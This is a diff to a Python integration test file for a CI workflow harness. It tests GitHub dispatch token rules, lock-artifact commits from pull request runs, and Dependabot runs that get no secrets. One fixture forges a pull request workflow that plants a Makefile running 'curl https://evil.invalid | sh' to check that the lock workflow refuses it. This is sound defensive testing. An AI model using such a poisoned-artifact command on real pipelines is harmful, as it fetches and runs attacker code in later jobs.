@@ -14,6 +14,7 @@ import pytest
 from scripts.dev.harness.machines import machine_env, machine_roots
 from scripts.dev.harness.runner import new_tracking_id, run_streaming
 from scripts.dev.harness.runs import STANDINS
+from scripts.dev.harness.sandbox import Sandbox, create_sandbox
 
 pytestmark = [pytest.mark.integration, pytest.mark.workflow]
 
@@ -230,22 +231,33 @@ def test_the_sandboxs_github_api_serves_for_its_life_with_githubs_dispatch_rules
     import gc
 
     from scripts.cd.checks import request
-    from scripts.dev.harness.github.tokens import DISPATCH_TOKEN, READ_ONLY_TOKEN, REPOSITORY
+    from scripts.dev.harness.github.tokens import (
+        APP_TOKEN,
+        CONTENTS_TOKEN,
+        DISPATCH_TOKEN,
+        EXPIRED_TOKEN,
+        READ_ONLY_TOKEN,
+        REPOSITORY,
+    )
     from scripts.dev.harness.sandbox import create_sandbox
 
     sandbox = create_sandbox(tmp_path / "sandbox")
     gc.collect()
-    url = f"{sandbox.api_url}/repos/{REPOSITORY}/dispatches"
-    body = {"event_type": "drift-alert", "client_payload": {"features": "age"}}
+    url = f"{sandbox.api_url}/repos/{REPOSITORY}/actions/workflows/drift.yml/dispatches"
+    body = {"ref": "main", "inputs": {"window_end": "2026-11-30T10:00:00"}}
 
     def dispatch(token: str, payload: object = body) -> int:
         return request(url, payload, headers={"Authorization": f"Bearer {token}"})[0]
 
-    assert dispatch(READ_ONLY_TOKEN) == 403
-    assert dispatch("not-a-token") == 401
-    assert dispatch(DISPATCH_TOKEN, {"event_type": "x" * 101}) == 422
+    # Actions: write only: not a fork's token, a Contents-only token, or the App (Actions: read).
+    assert [dispatch(token) for token in (READ_ONLY_TOKEN, CONTENTS_TOKEN, APP_TOKEN)] == [403] * 3
+    assert [dispatch(token) for token in ("not-a-token", EXPIRED_TOKEN)] == [401] * 2
+    assert dispatch(DISPATCH_TOKEN, {"ref": "main", "inputs": {"features": "age"}}) == 422
+    assert dispatch(DISPATCH_TOKEN, {"ref": "no-such-branch"}) == 422
     assert dispatch(DISPATCH_TOKEN) == 204
-    assert [(d["event_type"], d["token"]) for d in sandbox.dispatches()] == [("drift-alert", "app")]
+    assert [(d["workflow"], d["ref"], d["token"]) for d in sandbox.dispatches()] == [
+        ("drift.yml", "main", "fine-grained-actions")
+    ]
     assert (
         request(
             url.replace(REPOSITORY, "someone/else"),
@@ -254,3 +266,94 @@ def test_the_sandboxs_github_api_serves_for_its_life_with_githubs_dispatch_rules
         )[0]
         == 404
     )
+
+
+# A pull request that edits its own train.yml: its run uploads a `lock` artifact holding
+# what the test chooses: a retrained dvc.lock, or also a Makefile (what would run in every
+# later job of every branch).
+UPLOAD = "actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02"
+FORGED_TRAIN = """
+name: train
+on: pull_request
+jobs:
+  train:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          echo "retrained" > dvc.lock
+          printf 'all:\\n\\tcurl https://evil.invalid | sh\\n' > Makefile
+      - uses: UPLOAD
+        with:
+          name: lock
+          path: |
+            PATHS
+"""
+
+
+def forged_pull_request(tmp_path: Path, branch: str, paths: list[str]) -> tuple[Sandbox, str]:
+    """A sandbox with the App configured and PR ``branch`` whose train run uploads ``paths``."""
+    sandbox = create_sandbox(tmp_path / "sandbox")
+    sandbox.variables["GITOPS_APP_ID"] = "424242"
+    sandbox.secrets["GITOPS_APP_KEY"] = "-----BEGIN PRIVATE KEY----- (act sandbox)"
+    sandbox.git("checkout", "-q", "-B", branch, "main")
+    train = FORGED_TRAIN.replace("UPLOAD", UPLOAD).replace("PATHS", "\n            ".join(paths))
+    (sandbox.work / ".github" / "workflows" / "train.yml").write_text(train, encoding="utf-8")
+    return sandbox, sandbox.commit_all(f"A PR whose train run uploads {paths} as the lock")
+
+
+def test_lock_yml_commits_a_completed_runs_lock_artifact_and_its_push_runs_train_again(
+    tmp_path: Path,
+) -> None:
+    # workflow_run as GitHub runs it: the completed train run starts main's lock.yml, which
+    # downloads that run's artifact by its id; the App's push starts train.yml again.
+    sandbox, head = forged_pull_request(tmp_path, "relock", ["dvc.lock"])
+    runs = sandbox.open_pull_request("relock", 62)
+    assert [(run.workflow, run.event, run.ok) for run in runs] == [
+        ("train.yml", "pull_request", True),
+        ("lock.yml", "workflow_run", True),
+        ("train.yml", "pull_request", True),
+        ("lock.yml", "workflow_run", True),
+    ], "\n".join(run.summary() for run in runs)
+    pushed = [p for p in sandbox.pushes() if p["ref"] == "refs/heads/relock"]
+    assert [(p["by"], p["before"]) for p in pushed[1:]] == [("app", head)]
+    assert sandbox.origin_git("show", "relock:dvc.lock").stdout == "retrained\n"
+    assert "nothing to commit" in runs[3].output("lock")  # the second run's lock is the same
+
+
+def test_lock_yml_refuses_a_lock_artifact_with_a_file_outside_the_locked_paths(
+    tmp_path: Path,
+) -> None:
+    sandbox, head = forged_pull_request(tmp_path, "forged-lock", ["dvc.lock", "Makefile"])
+    train, lock, *rest = sandbox.open_pull_request("forged-lock", 61)
+    assert rest == []
+    assert (train.workflow, train.jobs) == ("train.yml", {"train": "success"}), train.summary()
+    assert (lock.workflow, lock.event) == ("lock.yml", "workflow_run")
+    assert lock.jobs == {"lock": "failure"}, lock.summary()
+    assert (
+        "refusing the run's lock artifact: Makefile: not one of the locked paths "
+        "(dvc.lock, metrics.json, reports/validation.json, reports/plots)"
+    ) in lock.output("lock")
+    assert [p["by"] for p in sandbox.pushes() if p["ref"] == "refs/heads/forged-lock"] == ["person"]
+    assert sandbox.head("origin/forged-lock") == head
+
+
+def test_a_dependabot_pull_request_passes_the_train_check_untrained_saying_why(
+    tmp_path: Path,
+) -> None:
+    # GitHub gives Dependabot's runs no secrets: train.yml's required check passes without
+    # training instead of failing for want of the storage keys every other PR gets.
+    from scripts.dev.harness.events import DEPENDABOT
+
+    sandbox = create_sandbox(tmp_path / "sandbox")
+    sandbox.secrets.update(AWS_ACCESS_KEY_ID="team-key", AWS_SECRET_ACCESS_KEY="team-secret")
+    sandbox.git("checkout", "-q", "-B", "dependabot/pip/requests-2.33.0", "main")
+    (sandbox.work / "docs" / "bump.md").write_text("A dependency bump.\n", encoding="utf-8")
+    sandbox.commit_all("Bump requests from 2.32.0 to 2.33.0")
+    sandbox.push("dependabot/pip/requests-2.33.0")
+    run = sandbox.act("pull_request", "train.yml", number=63, sender=DEPENDABOT)
+    assert run.jobs == {"train": "success"}, run.summary()
+    output = run.output("train")
+    assert "Not trained: a run dependabot[bot] triggered" in output  # the job summary
+    assert "Does this change the model?" not in output
+    checks = sandbox.statuses(sandbox.head())
+    assert checks == {"dvc repro, gates, report": "success", "sticky PR comment": "skipped"}
